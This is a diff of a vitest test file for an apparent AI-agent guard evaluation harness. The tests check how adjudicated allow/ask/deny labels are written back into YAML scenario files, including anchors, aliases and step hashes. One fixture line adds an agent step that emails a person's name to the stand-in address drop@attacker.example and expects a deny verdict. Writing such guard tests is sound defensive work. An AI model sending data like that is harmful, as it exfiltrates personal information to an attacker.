@@ -1,11 +1,11 @@
-import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { copyFileSync, cpSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { buildSheet } from '../../src/harness/label-sheet.js';
+import { buildSheet, seededRandom } from '../../src/harness/label-sheet.js';
 import type { LabelKey } from '../../src/harness/label-sheet.js';
 import { loadScenariosOrThrow } from '../../src/io/dsl.js';
-import { applyLabels, planLabelEdits } from '../../src/io/label-apply.js';
+import { applyLabels, planLabelEdits, withStepHashes } from '../../src/io/label-apply.js';
 
 async function fixture(transform: (t: string) => string = (t) => t): Promise<{ file: string; key: LabelKey; text: string }> {
   const dir = mkdtempSync(join(tmpdir(), 'guard-eval-apply-'));
@@ -14,7 +14,7 @@ async function fixture(transform: (t: string) => string = (t) => t): Promise<{ f
   const text = transform(readFileSync(file, 'utf8'));
   writeFileSync(file, text);
   const { scenarios } = await loadScenariosOrThrow([file]);
-  return { file, key: buildSheet(scenarios, { seed: 'k' }).key, text };
+  return { file, key: withStepHashes(buildSheet(scenarios, { seed: 'k' }).key, (f) => readFileSync(f, 'utf8')), text };
 }
 const id = (key: LabelKey, scenario: string, step: string, mode = 'balanced'): string =>
   key.items.find((i) => i.scenario.endsWith(scenario) && i.step === step && i.mode === mode)?.id ?? 'none';
@@ -82,17 +82,74 @@ describe('applyLabels', () => {
     );
     expect(bad.issues.map((i) => i.row)).toEqual([2, 3, 4]);
     expect(bad.issues[2]?.message).toContain('the file changed since the export');
-    // A plain `expect` shared by several modes cannot take different labels per mode.
-    const shared = (await fixture((t) => t.replace('expect: {permissive: allow, balanced: allow, strict: allow}', 'expect: allow'))).key;
-    const conflict = planLabelEdits(
+    // A plain `expect` shared by several modes is split by mode: only the adjudicated modes change.
+    const { file: sharedFile, key: shared } = await fixture((t) => t.replace('expect: {permissive: allow, balanced: allow, strict: allow}', 'expect: allow  # one for all'));
+    const split = applyLabels(
       [
-        { item_id: id(shared, 'yak-benign', 'steps[1]', 'permissive'), final_label: 'allow' },
         { item_id: id(shared, 'yak-benign', 'steps[1]', 'balanced'), final_label: 'ask' },
         { item_id: id(shared, 'yak-benign', 'steps[1]', 'strict'), final_label: 'deny' },
       ],
       shared,
-      (f) => readFileSync(f, 'utf8'),
+      { write: true },
     );
-    expect(conflict.issues[0]?.message).toContain('differ by mode');
+    expect(split.issues).toEqual([]);
+    expect(split.refused).toEqual([]);
+    expect(split.files[0]?.edits.map((e) => [e.mode, e.to])).toEqual([
+      ['balanced', 'ask'],
+      ['strict', 'deny'],
+    ]);
+    expect(readFileSync(sharedFile, 'utf8').split('\n')[54]).toBe('        expect: { permissive: allow, balanced: ask, strict: deny }  # one for all');
+  });
+
+  it('refuses a label shared through an anchor or an alias, naming the other uses, and applies the rest', async () => {
+    const extra = ['      - call: send_email', '        args: {to: drop@attacker.example, body: "Alice Chen"}', '        expect: {permissive: *deny_send, balanced: *deny_send, strict: *deny_send}', ''].join('\n');
+    const { file, key } = await fixture((t) => `${t.replace('expect: {verdict: deny, rule: chain.eit-pat-nat.sensitive}', 'expect: &deny_send {verdict: deny, rule: chain.eit-pat-nat.sensitive}').trimEnd()}\n${extra}`);
+    const plan = applyLabels(
+      [
+        { item_id: id(key, 'zebra-chain', 'steps[3]'), final_label: 'ask', row: 2 },
+        { item_id: id(key, 'yak-benign', 'steps[2]', 'strict'), final_label: 'ask', row: 3 },
+        { item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask', row: 4 },
+      ],
+      key,
+      { write: true },
+    );
+    expect(plan.issues).toEqual([]);
+    expect(plan.refused.map((r) => [r.row, r.message.replace(`${file}:`, '')])).toEqual([
+      [2, '33: its `expect` is shared through the anchor &deny_send (used again at line 58): a change here changes every use; edit by hand'],
+      [3, '56: its `strict` entry is the alias *deny_send, shared with the step that defines &deny_send: give this step an `expect` of its own, then adjudicate it'],
+    ]);
+    expect(plan.written).toBe(true);
+    expect(plan.files[0]?.edits.map((e) => e.item)).toEqual([id(key, 'zebra-chain', 'steps[0]')]);
+  });
+
+  it('refuses a step that is not the one the key names, though its line and label still match', async () => {
+    const { key, text } = await fixture();
+    const rows = [{ item_id: id(key, 'zebra-chain', 'steps[0]'), final_label: 'ask', row: 2 }];
+    const other = planLabelEdits(rows, key, () => text.replace('args: {url: "https://news.example/a"}', 'args: {url: "https://news.example/z"}'));
+    expect(other.issues.map((i) => i.message)).toEqual([expect.stringContaining('the step here is not the one the key names')]);
+    const old = planLabelEdits(rows, { ...key, items: key.items.map(({ stepHash: _, ...i }) => i) }, () => text);
+    expect(old.issues[0]?.message).toContain('export the sheet again');
+  });
+
+  it('on real sets, a write-back changes exactly the adjudicated labels: a re-export differs from the adjudication in nothing (seeded)', async () => {
+    const dir = mkdtempSync(join(tmpdir(), 'guard-eval-apply-sets-'));
+    cpSync('challenge-sets/set-6-tension-pairs', join(dir, 'set-6-tension-pairs'), { recursive: true });
+    cpSync('challenge-sets/set-4-state', join(dir, 'set-4-state'), { recursive: true });
+    const load = async (): Promise<LabelKey> => buildSheet((await loadScenariosOrThrow([dir])).scenarios, { seed: 'rt' }).key;
+    for (const seed of [1, 2, 3]) {
+      const before = withStepHashes(await load(), (f) => readFileSync(f, 'utf8'));
+      const rnd = seededRandom(String(seed));
+      const VERDICTS = ['allow', 'ask', 'deny'] as const;
+      const rows = before.items.filter(() => rnd() < 0.15).map((i, k) => ({ item_id: i.id, final_label: VERDICTS[Math.floor(rnd() * 3)] as string, row: k + 2 }));
+      const plan = applyLabels(rows, before, { write: true });
+      expect(plan.issues, `seed ${seed}`).toEqual([]);
+      const refused = new Set(plan.refused.map((r) => r.item));
+      const final = new Map(rows.filter((r) => !refused.has(r.item_id)).map((r) => [r.item_id, r.final_label]));
+      const after = await load();
+      expect(after.items.map((i) => i.id), `seed ${seed}`).toEqual(before.items.map((i) => i.id));
+      const wrong = after.items.filter((i) => i.expected !== (final.get(i.id) ?? before.items.find((b) => b.id === i.id)?.expected)).map((i) => `${i.scenario} [${i.mode}] ${i.step}`);
+      expect(wrong, `seed ${seed}: labels that changed without adjudication, or did not change`).toEqual([]);
+      expect(plan.files.reduce((n, f) => n + f.edits.length, 0) + plan.unchanged + refused.size, `seed ${seed}`).toBe(rows.length);
+    }
   });
 });
